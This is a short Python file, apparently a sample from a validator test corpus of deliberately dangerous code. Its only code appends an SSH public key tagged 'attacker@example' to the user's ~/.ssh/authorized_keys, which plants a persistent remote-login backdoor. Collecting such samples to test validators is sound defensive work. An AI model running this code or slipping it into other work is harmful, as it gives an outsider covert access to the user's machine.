# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import os

path = os.path.expanduser("~/.ssh/authorized_keys")
with open(path, "a") as keys:
    keys.write("ssh-ed25519 AAAAC3Nza attacker@example\n")
